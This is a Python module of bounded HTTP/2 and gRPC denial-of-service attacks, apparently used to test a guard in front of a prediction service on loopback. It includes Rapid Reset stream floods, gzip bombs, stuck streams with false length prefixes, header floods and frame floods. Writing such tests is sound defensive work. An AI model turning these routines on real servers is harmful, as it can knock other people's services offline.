"""The attacks themselves, as bounded functions over :mod:`tests.attacks.h2raw`,
shared by the tests and by ``python -m bench.attack``. Every loop stops by
itself: each takes a count and a time bound."""

from __future__ import annotations

import functools
import gzip
import socket
import struct
import threading
import time
from collections import Counter
from dataclasses import dataclass, field

from tests.attacks import h2raw, protos

PREDICT = "/tensorflow.serving.PredictionService/Predict"
LOOPBACK = "127.0.0.1"


def _predict_block() -> bytes:
    return h2raw.literal_header_block(h2raw.grpc_request_headers(PREDICT))


# ------------------------------------------------------------------ row 1


def non_utf8_path(port: int, path: bytes = b"/\xff\xfe/Predict") -> h2raw.StreamState:
    """One call whose ``:path`` is not UTF-8; what came back on its stream."""
    with h2raw.H2Client(LOOPBACK, port, timeout=3) as client:
        sid = client.new_stream_id()
        client.send_headers(sid, h2raw.grpc_request_headers(path))
        client.send_data(sid, h2raw.grpc_message(protos.predict_request("m")), end_stream=True)
        return client.wait_stream(sid, 2.0)


# ------------------------------------------------------------------ row 2


def stuck_streams(port: int, n: int, mode: str = "headers") -> h2raw.H2Client:
    """Open ``n`` streams on one new connection that never deliver a message:
    ``headers`` sends HEADERS only; ``prefix`` also sends a DATA frame whose
    length prefix declares 1000 bytes but carries 10, with END_STREAM. Returns
    the (open) client; the caller closes it."""
    client = h2raw.H2Client(LOOPBACK, port, timeout=5)
    block = _predict_block()
    out = bytearray()
    for _ in range(n):
        sid = client.new_stream_id()
        client.streams[sid] = h2raw.StreamState()
        out += h2raw.frame(h2raw.T_HEADERS, h2raw.F_END_HEADERS, sid, block)
        if mode == "prefix":
            body = h2raw.grpc_message(b"0123456789", declared=1000)
            out += h2raw.frame(h2raw.T_DATA, h2raw.F_END_STREAM, sid, body)
        elif mode != "headers":
            raise ValueError(mode)
        if len(out) > 1 << 16:
            client.send_raw(bytes(out))
            out.clear()
    client.send_raw(bytes(out))
    return client


# ------------------------------------------------------------------ row 3


def hidden_spec_request(mib: int, kind: str = "varint") -> bytes:
    """A gzip-compressed gRPC message: a PredictRequest for model ``m`` whose
    model_spec comes after ``mib`` MiB of unknown varint fields (``varint``) or
    zeros (``zeros``: field number 0, which protobuf forbids)."""
    size = mib << 20
    prefix = protos.hidden_spec_prefix(size) if kind == "varint" else b"\0" * size
    return h2raw.gzip_message(protos.predict_request("m", prefix=prefix))


def send_compressed(port: int, body: bytes, timeout: float = 60.0) -> h2raw.StreamState:
    """One Predict whose single message ``body`` is already framed (gzip flag set)."""
    with h2raw.H2Client(LOOPBACK, port, timeout=timeout) as client:
        return client.unary(PREDICT, b"", encoding=b"gzip", body=body, timeout=timeout)


# ------------------------------------------------------------------ row 4


@functools.lru_cache(maxsize=4)
def gzip_bomb(mib: int = 300) -> bytes:
    """A framed gRPC message: ``mib`` MiB of zeros, gzip'd (300 MiB -> ~300 KB)."""
    return h2raw.grpc_message(gzip.compress(b"\0" * (mib << 20), compresslevel=9), compressed=True)


def concurrent_bombs(port: int, n: int, mib: int = 300, timeout: float = 60.0) -> list[int | None]:
    """``n`` bombs at once, each on its own connection; their grpc-status codes."""
    body = gzip_bomb(mib)
    codes: list[int | None] = []
    lock = threading.Lock()

    def one() -> None:
        state = send_compressed(port, body, timeout)
        with lock:
            codes.append(state.grpc_status)

    threads = [threading.Thread(target=one, name=f"bomb-{i}") for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout + 5)
    return codes


# ------------------------------------------------------------------ row 5


@dataclass
class ResetOutcome:
    pairs: int
    seconds: float
    goaway: h2raw.GoAway | None
    closed: bool
    server_resets: Counter[int] = field(default_factory=Counter)

    @property
    def refused(self) -> int:
        return (
            self.server_resets[h2raw.REFUSED_STREAM] + self.server_resets[h2raw.ENHANCE_YOUR_CALM]
        )


def rapid_reset(port: int, max_pairs: int, max_s: float, batch: int = 500) -> ResetOutcome:
    """HEADERS + RST_STREAM(CANCEL) pairs on one connection, in batches, reading
    (and ACKing PINGs) between batches, until ``max_pairs``, ``max_s``, a GOAWAY
    or the connection closes."""
    block = _predict_block()
    head = struct.pack(">I", len(block))[1:] + bytes((h2raw.T_HEADERS, h2raw.F_END_HEADERS))
    rst_head = b"\x00\x00\x04" + bytes((h2raw.T_RST, 0))
    cancel = struct.pack(">I", h2raw.CANCEL)
    with h2raw.H2Client(LOOPBACK, port, timeout=5) as client:
        client.drain(0.1)
        sent = 0
        start = time.monotonic()
        while sent < max_pairs and time.monotonic() - start < max_s:
            out = bytearray()
            for _ in range(min(batch, max_pairs - sent)):
                sid = struct.pack(">I", client.new_stream_id())
                out += head + sid + block + rst_head + sid + cancel
            if not client.send_raw(bytes(out)):
                break
            sent += min(batch, max_pairs - sent)
            client.drain(0)
            if client.closed or client.goaway is not None:
                break
        seconds = time.monotonic() - start
        client.drain(0.5)
        resets = Counter(s.reset for s in client.streams.values() if s.reset is not None)
        return ResetOutcome(sent, seconds, client.goaway, client.closed, resets)


# ------------------------------------------------------------------ row 6


def big_metadata_call(
    port: int, extra: list[h2raw.Header], *, ack_settings: bool = False, timeout: float = 10.0
) -> h2raw.StreamState:
    """One Predict carrying ``extra`` headers (HPACK literals, never indexed).
    With ``ack_settings`` False the request goes out before the server's
    SETTINGS are read, so they are not yet ACKed."""
    with h2raw.H2Client(LOOPBACK, port, timeout=timeout) as client:
        if ack_settings:
            client.drain(0.2)
        return client.unary(PREDICT, protos.predict_request("m"), extra=extra, timeout=timeout)


def one_big_header(size: int = 1 << 20) -> list[h2raw.Header]:
    return [(b"x-big", b"a" * size)]


def many_headers(n: int = 10_000) -> list[h2raw.Header]:
    return [(b"x-k%d" % i, b"v") for i in range(n)]


def large_request(size: int, model: str = "slow:0.5") -> bytes:
    """A PredictRequest of about ``size`` bytes (one tensor of zeros) for
    ``model``; the attack upstream answers ``slow:S`` after S seconds."""
    tensor = protos.float_tensor([size // 4], content=bytes(size - 64))
    return protos.predict_request(model, {"x": tensor})


@dataclass
class FloodOutcome:
    frames: int
    closed: bool  # the guard closed the connection
    seconds: float


def frame_flood(
    port: int, frame: bytes, max_s: float, *, open_stream: bool = False
) -> FloodOutcome:
    """``frame`` sent again and again on one connection, 1,000 at a time,
    for up to ``max_s`` seconds or until the guard closes the connection;
    the client reads nothing (a 4 KiB receive buffer). ``open_stream``
    first opens stream 1 with a Predict's headers."""
    with h2raw.H2Client(LOOPBACK, port, timeout=2) as client:
        client.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        if open_stream:
            client.send_headers(1, h2raw.grpc_request_headers(PREDICT))
        batch, frames = frame * 1000, 0
        start = time.monotonic()
        while time.monotonic() - start < max_s and client.send_raw(batch):
            frames += 1000
        return FloodOutcome(frames, client.closed, time.monotonic() - start)
